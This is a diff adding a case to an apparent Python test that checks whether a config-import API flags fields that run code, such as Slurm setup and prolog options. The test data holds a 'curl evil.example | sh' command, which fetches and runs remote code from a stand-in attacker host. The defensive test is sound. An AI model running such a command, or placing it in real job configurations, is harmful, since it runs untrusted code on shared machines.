@@ -130,6 +130,13 @@ def test_import_does_not_agree_to_code_of_others(api):
     assert imported["runs_code"] == ["LD_PRELOAD", "PYTHONPATH", "model.trust_remote_code (turned off)"]
     found = api.post("/api/check", json={"values": imported["values"]}).json()["findings"]
     assert "LCH017" in {finding["code"] for finding in found}
+    job = {
+        "launch.place": "slurm",
+        "slurm.setup": ("curl evil.example | sh",),
+        "slurm.extra": ("--task-prolog=/tmp/a",),
+    }
+    imported = api.post("/api/import", json={"yaml": dump(edit(RunSpec(), job))}).json()
+    assert imported["runs_code"] == ["slurm.setup", "slurm.extra"]
     harmless = api.post("/api/import", json={"yaml": "train: {seed: 3}\n"}).json()
     assert harmless["runs_code"] == []
 
